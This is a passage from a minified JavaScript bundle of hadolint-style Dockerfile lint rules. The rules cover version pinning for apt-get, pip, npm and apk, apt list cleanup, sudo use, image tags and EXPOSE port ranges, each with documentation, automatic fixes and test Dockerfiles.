`,expect:[{line:2,col:5,severity:"info",message:"Use WORKDIR to switch to a directory"}]},{name:"one finding per RUN",input:`FROM node:20
RUN cd /a && make && cd /b && make
`,expect:[{line:2,col:5}]},{name:"cd in a subshell",input:`FROM node:20
RUN (cd /app && npm ci) && echo done
`,expect:[]},{name:"cd in a command substitution",input:`FROM node:20
RUN DIR="$(cd /app && pwd)" && echo "$DIR"
`,expect:[]},{name:"cd as an argument",input:`FROM node:20
RUN echo cd /app
`,expect:[]},{name:"WORKDIR",input:`FROM node:20
WORKDIR /app
RUN npm ci
`,expect:[]}]},Xf=g0;var y0={id:"DL3004",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3004"},docs:{summary:"Do not use sudo in RUN.",why:"sudo has unpredictable TTY and signal-forwarding behaviour and usually is not installed. RUN already runs as the current USER: switch with `USER root` for the steps that need it, or use gosu/su-exec in an entrypoint.",bad:`FROM debian:bookworm
USER app
RUN sudo apt-get update
`,good:`FROM debian:bookworm
USER root
RUN apt-get update
USER app
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){let i=[...s.wrappers,s.nameWord].find(r=>!r.dynamic&&/(^|\/)sudo$/.test(r.value));i&&e({message:"Do not use sudo as it leads to unpredictable behavior. Use a tool like gosu to enforce root",range:i.range})}},tests:[{name:"sudo wrapper",input:`FROM debian
RUN sudo apt-get update
`,expect:[{line:2,col:5}]},{name:"sudo with options and env prefix",input:`FROM debian
RUN DEBIAN_FRONTEND=noninteractive sudo -E make install
`,expect:[{line:2,col:36}]},{name:"sudo alone",input:`FROM debian
RUN echo ok && sudo
`,expect:[{line:2,col:16}]},{name:"installing sudo is fine",input:`FROM debian
RUN apt-get install -y sudo && echo "app ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/app
`,expect:[]},{name:"gosu",input:`FROM debian
RUN gosu nobody true
`,expect:[]}]},Zf=y0;var b0={id:"DL3006",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3006"},docs:{summary:"Always tag the version of an image explicitly.",why:"Without a tag Docker uses `latest`, which moves: the same Dockerfile builds on a different base image from one week to the next. Name a tag (or a digest). Earlier stages (`FROM build`) and `scratch` need none; a base given by an ARG is checked with its default value.",bad:`FROM python
CMD ["python"]
`,good:`FROM python:3.12-slim
CMD ["python"]
`},check({model:n,report:e,options:t}){for(let s of rt(n,t.buildArgs))s.resolved===void 0||s.stageRef||s.scratch||s.tag!==void 0||s.digest||s.path&&e({message:s.substituted?`Always tag the version of an image explicitly (\`${s.written}\` is \`${s.resolved}\`)`:"Always tag the version of an image explicitly",range:s.range})},tests:[{name:"untagged",input:`FROM debian
`,expect:[{line:1,col:6}]},{name:"untagged with registry port",input:`FROM localhost:5000/app
`,expect:[{line:1}]},{name:"tagged",input:`FROM debian:bookworm
FROM localhost:5000/app:1.0
`,expect:[]},{name:"digest",input:`FROM debian@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
`,expect:[]},{name:"scratch",input:`FROM scratch
`,expect:[]},{name:"quoted images (the builder removes the quotes)",input:`FROM "debian:12" AS build
FROM "scratch"
FROM 'build'
FROM "python"
`,expect:[{line:4,col:6}]},{name:"earlier stage",input:`FROM debian:12 AS build
FROM build
`,expect:[]},{name:"ARG default without a tag",input:`ARG BASE=debian
FROM \${BASE}
`,expect:[{line:2,message:"`debian`"}]},{name:"ARG default with a tag",input:`ARG BASE=debian:12
FROM $BASE
`,expect:[]},{name:"ARG for the tag",input:`ARG VERSION=12
FROM debian:\${VERSION}
`,expect:[]},{name:"empty tag is another problem",input:`ARG SFX="box:"
FROM busy\${SFX}
`,expect:[]},{name:"ARG without a value is unknown",input:`ARG BASE
FROM $BASE
`,expect:[]},{name:"build arg overrides the default",input:`ARG BASE=debian:12
FROM $BASE
`,options:{buildArgs:{BASE:"ubuntu"}},expect:[{line:2}]}]},Qf=b0;var w0={id:"DL3007",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3007"},docs:{summary:"Do not use the `latest` tag; pin the version explicitly.",why:"`latest` moves whenever the image is updated, so rebuilds of the same Dockerfile silently change base image (and can break). A digest next to it pins it.",bad:`FROM node:latest
CMD ["node"]
`,good:`FROM node:20.14-slim
CMD ["node"]
`},check({model:n,report:e,options:t}){for(let s of rt(n,t.buildArgs))s.stageRef||s.digest||s.tag?.toLowerCase()!=="latest"||e({message:"Using latest is prone to errors if the image will ever update. Pin the version explicitly to a release tag",range:s.stage.from.getImageTagRange()??s.range})},tests:[{name:"latest",input:`FROM node:latest
`,expect:[{line:1,col:11}]},{name:"latest with registry",input:`FROM ghcr.io/org/app:latest AS app
`,expect:[{line:1}]},{name:"latest pinned by digest",input:`FROM node:latest@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
`,expect:[]},{name:"version tag",input:`FROM node:20
`,expect:[]},{name:"ARG default latest",input:`ARG TAG=latest
FROM node:\${TAG}
`,expect:[{line:2}]},{name:"untagged is DL3006",input:`FROM node
`,expect:[]},{name:"quoted image (the builder removes the quotes)",input:`FROM "node:latest"
FROM "node:20"
`,expect:[{line:1,col:12}]}]},eh=w0;var Ol=new Set(["o","c","t","a","option","config-file","target-release","default-release","host-architecture"]),fo=new Set(["t","virtual","repository","X","p","root","arch","keys-dir","cache-dir","repositories-file","cache-max-age","timeout"]),Qs=new Set(["abi","b","build","e","editable","extra-index-url","f","find-links","i","index-url","implementation","no-binary","only-binary","platform","prefix","progress-bar","proxy","python-version","root","src","t","target","trusted-host","upgrade-strategy","r","requirement","c","constraint","cache-dir","log","timeout","retries","exists-action","cert","client-cert","C","config-settings","global-option","install-option","report","root-user-action","python","use-feature","use-deprecated","keyring-provider","group"]),ot=new Set(["c","config","d","debuglevel","e","errorlevel","installroot","enablerepo","disablerepo","repo","repoid","releasever","setopt","x","exclude","R","randomwait","color","downloaddir","destdir","repofrompath","forcearch","rpmverbosity","comment","advisory","advisories","bz","cve","sec-severity","secseverity"]),Yt=new Set(["t","type","r","repo","from","R","root","D","reposd-dir","C","cache-dir","raw-cache-dir","solv-cache-dir","pkg-cache-dir","c","config"]);function Ft(n){if(n.name!=="apt-get")return;let e=z(n,Ol);if(e.length)return{sub:e[0],packages:e.slice(1)}}var v0=/[octa]/;function Sl(n){if(!/^-[A-Za-z]/.test(n))return"";let e=n.slice(1),t=e.search(v0);return(t<0?e:e.slice(0,t+1)).replace(/[^A-Za-z].*$/,"")}function ei(n,e){let t=n.args[e].value;return t.startsWith("-o")&&t.length>2?t.slice(2):t.startsWith("--option=")?t.slice(9):t==="-o"||t==="--option"?n.args[e+1]?.value??"":""}var k0=new Set(["--simulate","--just-print","--dry-run","--recon","--no-act"]);function is(n){for(let e=0;e<n.args.length;e++){let t=n.args[e].value;if(t==="--")break;if(k0.has(t)||Sl(t).includes("s")||/^APT::Get::Simulate=(1|true|yes|on)$/i.test(ei(n,e)))return!0}return!1}function Wt(n){let e;if(/^pip(\d+(\.\d+)*)?$/.test(n.name))e=n.args;else if(/^python(\d+(\.\d+)*)?$/.test(n.name)){let r=n.args.findIndex((a,c)=>a.value==="-m"&&n.args[c+1]?.value==="pip"),o=n.args.findIndex(a=>a.value==="-mpip");if(r>=0)e=n.args.slice(r+2);else if(o>=0)e=n.args.slice(o+1);else return}else return;let t={...n,args:e},s=uo(t,Qs);if(!s||s.value!=="install")return;let i=e.indexOf(s);return{install:s,args:e.slice(i+1),all:e}}function ho(n){if(n.endsWith(".rpm"))return!0;let e=n.split("-"),t=e.findIndex((s,i)=>i>0&&/^[0-9]/.test(s));return t<0?!1:e.slice(t).every(s=>/^[0-9A-Za-z.~^_:+*]+$/.test(s))}function rs(n){return!n.dynamic&&!!n.value&&!n.value.startsWith("@")&&!n.value.includes("/")&&!n.value.includes("(")&&!/[*?[]/.test(n.value)}function ft(n){return n.memoize("pkg:shipped",()=>{let e=new Set,t=n.stages[n.stages.length-1];for(;t&&!e.has(t);)e.add(t),t=n.parentStage(t);return e})}function Bt(n,e,t,s){return n.memoize(`nearestBefore:${t}`,()=>{let r=new Array(n.instructions.length),o=new Array(n.stages.length);for(let a of n.stages){let c=n.parentStage(a),l=c?o[c.index]:void 0;for(let u of a.instructions)r[u.index]=l,s(u)&&(l=u);o[a.index]=l}return r})[e.index]}function os(n,e){let t=new Set,s=e;for(let i=n.parentStage(s);i&&!t.has(i);i=n.parentStage(s))t.add(s),s=i;return s}function Gt(n,e){if((e.rawArgsContent??"").includes("<<"))return;let s=e.jsonStrings;if(s.length)return{values:s.map(r=>po(n.textOf(r.getRange()))??r.getJSONValue()),ranges:s.map(r=>r.getRange())};let i=e.args;return{values:e.argValues.slice(),ranges:i.map(r=>r.getRange())}}function x0(n){return n.includes("=")||n.includes("/")||n.endsWith(".deb")}var R0={id:"DL3008",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3008"},docs:{summary:"Pin versions in `apt-get install`.",why:"Without versions the image you build next month installs whatever the mirror has then, so two builds of the same Dockerfile can differ and a rebuild can break with no change on your side. Pin `pkg=version` (or a release with `pkg/release`) for packages your software depends on. A simulation (`apt-get install -s`) installs nothing and is not reported.",bad:`FROM debian:bookworm
RUN apt-get update && apt-get install -y --no-install-recommends curl \\
 && rm -rf /var/lib/apt/lists/*
`,good:`FROM debian:bookworm
RUN apt-get update && apt-get install -y --no-install-recommends curl=7.88.1-10+deb12u12 \\
 && rm -rf /var/lib/apt/lists/*
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){let i=Ft(s);if(!i||i.sub.value!=="install"||is(s))continue;let r=i.packages.filter(a=>!a.dynamic&&!x0(a.value));if(!r.length)continue;let o=r.map(a=>a.value);e({message:`Pin versions in apt-get install: ${o.slice(0,5).join(", ")}${o.length>5?`, \u2026 (${o.length})`:""}. Instead of \`apt-get install <package>\` use \`apt-get install <package>=<version>\``,range:r[0].range})}},tests:[{name:"unpinned package",input:`FROM debian
RUN apt-get install -y curl
`,expect:[{line:2,col:24,message:"curl"}]},{name:"pinned package",input:`FROM debian
RUN apt-get install -y curl=7.88.1-10
`,expect:[]},{name:"a simulation installs nothing: no version to pin",input:`FROM debian
RUN apt-get install -s curl && apt-get --just-print install git
`,expect:[]},{name:"pinned with wildcard version",input:`FROM debian
RUN apt-get install -y "curl=7.88.*"
`,expect:[]},{name:"release pin and local .deb",input:`FROM debian
RUN apt-get install -y git/bookworm-backports ./pkg.deb
`,expect:[]},{name:"continuation list reports once, at the first unpinned package",input:`FROM debian
RUN apt-get update \\
 && apt-get install -y --no-install-recommends \\
      ca-certificates=20230311 \\
      curl \\
      git \\
 && rm -rf /var/lib/apt/lists/*
`,expect:[{line:5,col:7,message:"curl, git"}]},{name:"variables are not checked",input:`FROM debian
ARG PKGS
RUN apt-get install -y $PKGS "\${EXTRA}"
`,expect:[]},{name:"options before the subcommand",input:`FROM debian
RUN apt-get -y -q install curl
`,expect:[{line:2,col:27}]},{name:"target release value is not a package",input:`FROM debian
RUN apt-get install -y -t bookworm-backports curl=8.0
`,expect:[]},{name:"-o values are not packages",input:`FROM debian
RUN apt-get -o Dpkg::Options::=--force-confold install -y curl=1
`,expect:[]},{name:"env prefix and sudo",input:`FROM debian
RUN DEBIAN_FRONTEND=noninteractive sudo apt-get install -y vim
`,expect:[{line:2,message:"vim"}]},{name:"other apt-get subcommands",input:`FROM debian
RUN apt-get update && apt-get purge -y curl && apt-get source foo
`,expect:[]},{name:"package named like a word in a string",input:`FROM debian
RUN echo "apt-get install curl"
`,expect:[]},{name:"exec form",input:`FROM debian
RUN ["apt-get", "install", "-y", "curl"]
`,expect:[{line:2,col:34}]},{name:"hadolint ignore",input:`FROM debian
# hadolint ignore=DL3008
RUN apt-get install -y curl
`,expect:[]},{name:"PowerShell stage is not parsed",input:`FROM mcr.microsoft.com/windows/servercore:ltsc2022
SHELL ["powershell", "-Command"]
RUN apt-get install curl
`,expect:[]}]},th=R0;var O0=/^\/var\/lib\/apt\/lists(\/\*?|\/\.?\*)?$/,S0={id:"DL3009",language:"dockerfile",severity:"info",compat:{hadolint:"DL3009"},docs:{summary:"Delete the apt-get lists after installing something, in the same RUN.",why:"`apt-get update` downloads package lists (tens of megabytes) into `/var/lib/apt/lists`. Removing them in a later RUN does not shrink the image, because the earlier layer still holds them. Only stages that end up in the final image are checked, and a cache mount on the lists directory is fine.",bad:`FROM debian:bookworm
RUN apt-get update && apt-get install -y --no-install-recommends curl=7.88.1-10+deb12u12
`,good:`FROM debian:bookworm
RUN apt-get update && apt-get install -y --no-install-recommends curl=7.88.1-10+deb12u12 \\
 && rm -rf /var/lib/apt/lists/*
`},check({model:n,report:e}){let t=ft(n);for(let s of H(n)){if(!s.ins.stage||!t.has(s.ins.stage))continue;let i=s.commands.find(a=>Ft(a)?.sub.value==="update");if(!i||s.commands.some(a=>a.name==="rm"&&a.args.some(c=>O0.test(c.value))||Ft(a)?.sub.value==="dist-clean")||We(n,s.ins,"/var/lib/apt/lists"))continue;let o=St(n,s,"rm -rf /var/lib/apt/lists/*");e({message:"Delete the apt-get lists after installing something: add `rm -rf /var/lib/apt/lists/*` to this RUN",range:i.nameWord.range,fixes:o?[{title:"Append `rm -rf /var/lib/apt/lists/*`",edits:[o],preferred:!0}]:void 0})}},tests:[{name:"lists left behind",input:`FROM debian
RUN apt-get update && apt-get install -y curl
`,expect:[{line:2,col:5}],fixed:`FROM debian
RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*
`},{name:"fix follows the leading-&& style",input:`FROM debian
RUN apt-get update \\
    && apt-get install -y curl
`,expect:[{line:2}],fixed:`FROM debian
RUN apt-get update \\
    && apt-get install -y curl \\
    && rm -rf /var/lib/apt/lists/*
`},{name:"fix follows the trailing-&& style",input:`FROM debian
RUN apt-get update && \\
  apt-get install -y curl
`,expect:[{line:2}],fixed:`FROM debian
RUN apt-get update && \\
  apt-get install -y curl && \\
  rm -rf /var/lib/apt/lists/*
`},{name:"a simulated install still leaves the lists update downloaded",input:`FROM debian
RUN apt-get update && apt-get install -s curl
`,expect:[{line:2,col:5}],fixed:`FROM debian
RUN apt-get update && apt-get install -s curl && rm -rf /var/lib/apt/lists/*
`},{name:"quoted cache mount of the lists",input:`FROM debian
RUN --mount="type=cache,target=/var/lib/apt/lists" apt-get update && apt-get install -y curl
`,expect:[]},{name:"cleaned in the same RUN",input:`FROM debian
RUN apt-get update && apt-get install -y curl \\
 && rm -rf /var/lib/apt/lists/*
`,expect:[]},{name:"cleaned with ; and set -eux",input:`FROM debian
RUN set -eux; apt-get update; apt-get install -y curl; rm -rf /var/lib/apt/lists/*
`,expect:[]},{name:"apt-get dist-clean",input:`FROM debian:trixie
RUN set -eux; apt-get update; apt-get install -y curl; apt-get dist-clean
`,expect:[]},{name:"apt-get clean keeps the lists",input:`FROM debian
RUN apt-get update && apt-get install -y curl && apt-get clean
`,expect:[{line:2}]},{name:"rm -fr of the directory",input:`FROM debian
RUN apt-get update && apt-get install -y curl && rm -fr /var/lib/apt/lists
`,expect:[]},{name:"not the final stage",input:`FROM debian AS build
RUN apt-get update && apt-get install -y gcc
FROM debian
COPY --from=build /x /x
`,expect:[]},{name:"a stage the final one builds on",input:`FROM debian AS base
RUN apt-get update && apt-get install -y curl
FROM base
CMD ["curl"]
`,expect:[{line:2}]},{name:"cache mount on apt lists",input:`FROM debian
RUN --mount=type=cache,target=/var/lib/apt/lists --mount=type=cache,target=/var/cache/apt \\
    apt-get update && apt-get install -y curl
`,expect:[]},{name:"cache mount on /var/lib/apt",input:`FROM debian
RUN --mount=type=cache,target=/var/lib/apt apt-get update && apt-get install -y curl
`,expect:[]},{name:"cleanup in a later RUN does not help",input:`FROM debian
RUN apt-get update
RUN rm -rf /var/lib/apt/lists/*
`,expect:[{line:2}]},{name:"no fix when the RUN ends with a comment",input:`FROM debian
RUN apt-get update && apt-get install -y curl # tools
`,expect:[{line:2}],fixed:`FROM debian
RUN apt-get update && apt-get install -y curl # tools
`},{name:"no update, nothing to delete",input:`FROM debian
RUN apt-get install -y ./local.deb
`,expect:[]}]},nh=S0;var M0={id:"DL3011",language:"dockerfile",severity:"error",compat:{hadolint:"DL3011"},docs:{summary:"EXPOSE ports must be between 0 and 65535.",why:"A port outside the TCP/UDP range can never be published; `docker build` accepts it and `docker run -P` fails later.",bad:`FROM python:3.12-slim
EXPOSE 80000
`,good:`FROM python:3.12-slim
EXPOSE 8000
`},check({model:n,report:e}){for(let t of n.instructions)t.keyword==="EXPOSE"&&t.args.forEach((s,i)=>{let r=t.argValues[i];if(r.includes("$"))return;let o=r.split("/")[0],a=o.includes(":")?o.slice(o.lastIndexOf(":")+1):o;for(let c of a.split("-")){if(!/^\d+$/.test(c))continue;if(Number(c)>65535){e({message:`Valid UNIX ports range from 0 to 65535 (got ${c})`,range:s.getRange()});break}}})},tests:[{name:"too large",input:`FROM scratch
EXPOSE 80 70000
`,expect:[{line:2,col:11,message:"70000"}]},{name:"range end too large",input:`FROM scratch
EXPOSE 8000-70000/tcp
`,expect:[{line:2,col:8}]},{name:"valid ports and protocols",input:`FROM scratch
EXPOSE 0 80/tcp 53/udp 65535 8000-8010
`,expect:[]},{name:"variables are skipped",input:`FROM scratch
ARG PORT=8000
EXPOSE $PORT
`,expect:[]},{name:"quoted ports (the builder removes the quotes)",input:`FROM scratch
EXPOSE "70000" '8080/tcp' "\${PORT}"
`,expect:[{line:2,col:8,message:"70000"}]}]},sh=M0;var A0=["==",">=","<=",">","<","!=","~=","==="],N0=/^(git|hg|svn|bzr)(\+[a-z-]+)?:/;function E0(n){if(A0.some(e=>n.includes(e)))return!0;if(N0.test(n)){let e=n.replace(/#.*$/,""),t=e.includes("://")?e.slice(e.indexOf("://")+3):e;return t.slice(t.indexOf("/")+1).includes("@")}return/\.(whl|tar\.gz|tgz|zip|tar\.bz2)$/.test(n)||n.includes("/")||n==="."||n.startsWith(".")?!0:n.includes(" @ ")}var _0={id:"DL3013",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3013"},docs:{summary:"Pin versions in `pip install`.",why:"`pip install flask` installs whatever release is newest on the day of the build; a new major version can break the image without any change to the Dockerfile. Pin with `flask==3.0.3` or install from a requirements or constraints file.",bad:`FROM python:3.12-slim
RUN pip install --no-cache-dir flask
`,good:`FROM python:3.12-slim
RUN pip install --no-cache-dir flask==3.0.3
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){let i=Wt(s);if(!i||i.args.map(c=>c.value).some(c=>/^(-r|--requirement|-c|--constraint)(=|$)/.test(c)||/^-[a-zA-Z]*[rc]$/.test(c)||c==="."))continue;let o={...s,args:i.args},a=z(o,Qs).filter(c=>!c.dynamic&&!E0(c.value));a.length&&e({message:`Pin versions in pip: ${a.map(c=>c.value).join(", ")}. Instead of \`pip install <package>\` use \`pip install <package>==<version>\` or \`pip install --requirement <requirements file>\``,range:a[0].range})}},tests:[{name:"unpinned",input:`FROM python:3.12
RUN pip install flask
`,expect:[{line:2,col:17,message:"flask"}]},{name:"== pin",input:`FROM python:3.12
RUN pip install flask==3.0.3 "requests>=2.31,<3"
`,expect:[]},{name:"extras with a pin",input:`FROM python:3.12
RUN pip install "uvicorn[standard]==0.30.1"
`,expect:[]},{name:"extras without a pin",input:`FROM python:3.12
RUN pip install "uvicorn[standard]"
`,expect:[{line:2,message:"uvicorn[standard]"}]},{name:"requirements file",input:`FROM python:3.12
RUN pip install --no-cache-dir -r requirements.txt
`,expect:[]},{name:"requirement long form",input:`FROM python:3.12
RUN pip install --requirement=requirements.txt gunicorn
`,expect:[]},{name:"constraints file",input:`FROM python:3.12
RUN pip install -c constraints.txt flask
`,expect:[]},{name:"local project",input:`FROM python:3.12
RUN pip install . && pip install -e ./lib && pip install ./dist/app-1.0-py3-none-any.whl
`,expect:[]},{name:"git URL with a ref",input:`FROM python:3.12
RUN pip install git+https://github.com/org/repo.git@v1.2.0
`,expect:[]},{name:"git URL without a ref",input:`FROM python:3.12
RUN pip install git+https://github.com/org/repo.git
`,expect:[{line:2}]},{name:"python -m pip",input:`FROM python:3.12
RUN python3 -m pip install --upgrade pip setuptools==70.0.0
`,expect:[{line:2,message:/: pip\./}]},{name:"index url value is not a package",input:`FROM python:3.12
RUN pip install -i https://pypi.example.com/simple flask==3.0.3
`,expect:[]},{name:"variables",input:`FROM python:3.12
ARG PKG
RUN pip install "$PKG" \${EXTRA}
`,expect:[]},{name:"pip other subcommands",input:`FROM python:3.12
RUN pip download flask && pip uninstall -y flask && pip --version
`,expect:[]},{name:"pipx and pipenv are other tools",input:`FROM python:3.12
RUN pipenv install && pipx install black==24.4.2
`,expect:[]}]},ih=_0;var $0=new Set(["install","remove","purge","upgrade","dist-upgrade","full-upgrade","autoremove","build-dep"]);function C0(n){let e=0;for(let t=0;t<n.args.length;t++){let s=n.args[t].value;if(s==="--")break;if(s==="--yes"||s==="--assume-yes"||s==="--force-yes"||/^--(yes|assume-yes)=(1|true|yes)$/i.test(s))return!0;let i=/^(?:--quiet|-q)=(\d+)$/.exec(s);if(i&&Number(i[1])>=2)return!0;s==="--quiet"&&e++;let r=Sl(s);if(r.includes("y"))return!0;e+=r.split("q").length-1;let o=ei(n,t);if(/^APT::Get::Assume-Yes=(1|true|yes)$/i.test(o))return!0;let a=/^quiet=(\d+)$/i.exec(o);if(a&&Number(a[1])>=2)return!0}return e>=2}var D0={id:"DL3014",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3014"},docs:{summary:"Use the `-y` switch with `apt-get install` (and other apt-get commands that ask for confirmation).",why:'A build has no terminal: when apt-get asks "Do you want to continue? [Y/n]" it reads end-of-file and aborts, so the build fails as soon as the install needs more than the named packages. Quiet level 2 (`-qq`, `-q=2`) implies `-y`; a simulation (`-s`, `--dry-run` and their aliases) asks nothing: neither is reported.',bad:`FROM debian:bookworm
RUN apt-get update && apt-get install --no-install-recommends curl
`,good:`FROM debian:bookworm
RUN apt-get update && apt-get install -y --no-install-recommends curl
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){let i=Ft(s);!i||!$0.has(i.sub.value)||C0(s)||is(s)||e({message:`Use the \`-y\` switch to avoid manual input \`apt-get ${i.sub.value} -y <package>\``,range:i.sub.range,fixes:[{title:"Add `-y`",edits:[_e(i.sub,"-y")],preferred:!0}]})}},tests:[{name:"install without -y",input:`FROM debian
RUN apt-get install curl
`,expect:[{line:2,col:13}],fixed:`FROM debian
RUN apt-get install -y curl
`},{name:"-y before the subcommand",input:`FROM debian
RUN apt-get -y install curl
`,expect:[]},{name:"--yes, --assume-yes, -qy",input:`FROM debian
RUN apt-get install --yes a && apt-get install --assume-yes b && apt-get install -qy c
`,expect:[]},{name:"-qq implies -y",input:`FROM debian
RUN apt-get -qq install curl
`,expect:[]},{name:"a single -q does not",input:`FROM debian
RUN apt-get -q install curl
`,expect:[{line:2}],fixed:`FROM debian
RUN apt-get -q install -y curl
`},{name:"APT::Get::Assume-Yes option",input:`FROM debian
RUN apt-get -o APT::Get::Assume-Yes=true install curl
`,expect:[]},{name:"purge and autoremove prompt too",input:`FROM debian
RUN apt-get purge curl && apt-get autoremove
`,expect:[{line:2,col:13},{line:2,col:35}],fixed:`FROM debian
RUN apt-get purge -y curl && apt-get autoremove -y
`},{name:"update does not prompt",input:`FROM debian
RUN apt-get update
`,expect:[]},{name:"quiet level 2 implies -y (-q=2, --quiet=2, -o quiet=2)",input:`FROM debian
RUN apt-get -q=2 install a && apt-get --quiet=2 install b && apt-get -o quiet=2 install c && apt-get -q -q install d
`,expect:[]},{name:"quiet level 1 does not",input:`FROM debian
RUN apt-get -q=1 install curl
`,expect:[{line:2,col:18}],fixed:`FROM debian
RUN apt-get -q=1 install -y curl
`},{name:"a simulation installs nothing and asks nothing (-s and its aliases)",input:`FROM debian
RUN apt-get install -s a && apt-get --simulate install b && apt-get install --just-print c \\
 && apt-get install --dry-run d && apt-get install --recon e && apt-get install --no-act f \\
 && apt-get -qs install g && apt-get -o APT::Get::Simulate=true install h
`,expect:[]},{name:"an s inside an option value is not -s",input:`FROM debian
RUN apt-get install -tsid curl
`,expect:[{line:2,col:13}],fixed:`FROM debian
RUN apt-get install -y -tsid curl
`},{name:"continuation lines",input:`FROM debian
RUN apt-get update && \\
    apt-get install \\
      curl
`,expect:[{line:3,col:13}],fixed:`FROM debian
RUN apt-get update && \\
    apt-get install -y \\
      curl
`}]},rh=D0;function F0(n){for(let e=0;e<n.args.length;e++){let t=n.args[e].value;if(t==="--no-install-recommends"||t==="--install-recommends=false"||t==="--install-recommends=no")return!0;let s=ei(n,e);if(/^APT::Install-Recommends=(0|false|no)$/i.test(s)||/^APT::Install-Recommends=(0|false|no)$/i.test(t))return!0}return!1}var T0={id:"DL3015",language:"dockerfile",severity:"info",compat:{hadolint:"DL3015"},docs:{summary:"Avoid additional packages by specifying `--no-install-recommends`.",why:'By default apt-get also installs every "recommended" package, which often doubles the size of an install (documentation, GUI helpers, extra tools) and widens the attack surface.',bad:`FROM debian:bookworm
RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*
`,good:`FROM debian:bookworm
RUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){let i=Ft(s);!i||i.sub.value!=="install"||F0(s)||is(s)||e({message:"Avoid additional packages by specifying `--no-install-recommends`",range:i.sub.range,fixes:[{title:"Add `--no-install-recommends`",edits:[_e(i.sub,"--no-install-recommends")],preferred:!0}]})}},tests:[{name:"missing",input:`FROM debian
RUN apt-get install -y curl
`,expect:[{line:2,col:13}],fixed:`FROM debian
RUN apt-get install --no-install-recommends -y curl
`},{name:"present",input:`FROM debian
RUN apt-get install -y --no-install-recommends curl
`,expect:[]},{name:"APT option",input:`FROM debian
RUN apt-get install -y -o APT::Install-Recommends=false curl
`,expect:[]},{name:"update only",input:`FROM debian
RUN apt-get update
`,expect:[]},{name:"a simulation installs nothing",input:`FROM debian
RUN apt-get install -s curl && apt-get install -y --dry-run git
`,expect:[]},{name:"in a heredoc RUN",input:`FROM debian
RUN <<EOF
set -e
apt-get install -y curl
EOF
`,expect:[{line:4,col:9}]}]},oh=T0;var L0=new Set(["prefix","registry","tag","cache","userconfig","w","workspace","omit","include","install-strategy","C","loglevel","location"]),I0=/^(git|git\+ssh|git\+http|git\+https):\/\//;function P0(n){return I0.test(n)?n.includes("#"):/\.(tar|tar\.gz|tgz)$/.test(n)||/^(\/|\.\/|\.\.\/|~\/|\.$|\.\.$|file:|link:)/.test(n)?!0:(n.startsWith("@")?n.slice(n.indexOf("/")+1):n).includes("@")}var j0={id:"DL3016",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3016"},docs:{summary:"Pin versions in `npm install`.",why:"`npm install -g typescript` installs the newest release on the day of the build, so rebuilding the same Dockerfile can give a different, possibly broken, image. Use `package@version` (or install from a lockfile with `npm ci`).",bad:`FROM node:20-slim
RUN npm install -g typescript
`,good:`FROM node:20-slim
RUN npm install -g typescript@5.4.5
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){if(s.name!=="npm")continue;let i=z(s,L0);if(!i.length||!["install","i","add","isntall","in"].includes(i[0].value))continue;let r=i.slice(1).filter(o=>!o.dynamic&&!P0(o.value));r.length&&e({message:`Pin versions in npm: ${r.map(o=>o.value).join(", ")}. Instead of \`npm install <package>\` use \`npm install <package>@<version>\``,range:r[0].range})}},tests:[{name:"unpinned global",input:`FROM node:20
RUN npm install -g typescript
`,expect:[{line:2,col:20,message:"typescript"}]},{name:"pinned",input:`FROM node:20
RUN npm install -g typescript@5.4.5 @angular/cli@17.3.0
`,expect:[]},{name:"scoped unpinned",input:`FROM node:20
RUN npm i -g @angular/cli
`,expect:[{line:2,message:"@angular/cli"}]},{name:"install from package.json",input:`FROM node:20
RUN npm install && npm ci --omit=dev
`,expect:[]},{name:"git with commit and tarball",input:`FROM node:20
RUN npm install git+https://github.com/u/r.git#abc123 ./pkg.tgz ../lib
`,expect:[]},{name:"git without commit",input:`FROM node:20
RUN npm install git+https://github.com/u/r.git
`,expect:[{line:2}]},{name:"registry value is not a package",input:`FROM node:20
RUN npm install --registry https://r.example.com left-pad@1.3.0
`,expect:[]},{name:"other subcommands",input:`FROM node:20
RUN npm run build && npm cache clean --force
`,expect:[]}]},ah=j0;function q0(n){return/[=~<>]/.test(n)||n.endsWith(".apk")}var U0={id:"DL3018",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3018"},docs:{summary:"Pin versions in `apk add`.",why:"Unpinned packages make the image depend on the day it was built: a rebuild can pull a new major version and break. Pin `pkg=version` (or `pkg~version` for a version prefix).",bad:`FROM alpine:3.20
RUN apk add --no-cache curl
`,good:`FROM alpine:3.20
RUN apk add --no-cache curl=8.9.1-r2
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){if(s.name!=="apk")continue;let i=z(s,fo);if(i[0]?.value!=="add")continue;let r=i.slice(1).filter(o=>!o.dynamic&&!q0(o.value));r.length&&e({message:`Pin versions in apk add: ${r.map(o=>o.value).slice(0,5).join(", ")}${r.length>5?`, \u2026 (${r.length})`:""}. Instead of \`apk add <package>\` use \`apk add <package>=<version>\``,range:r[0].range})}},tests:[{name:"unpinned",input:`FROM alpine
RUN apk add --no-cache curl
`,expect:[{line:2,col:24}]},{name:"pinned = and ~",input:`FROM alpine
RUN apk add --no-cache curl=8.9.1-r2 "git~2.45"
`,expect:[]},{name:"virtual package name is not a package",input:`FROM alpine
RUN apk add --no-cache --virtual .build-deps gcc=13.2.1_git20240309-r0
`,expect:[]},{name:"short -t virtual",input:`FROM alpine
RUN apk add -t .deps make
`,expect:[{line:2,message:"make"}]},{name:"repository value",input:`FROM alpine
RUN apk add -X https://dl-cdn.alpinelinux.org/alpine/edge/testing foo=1.0-r0
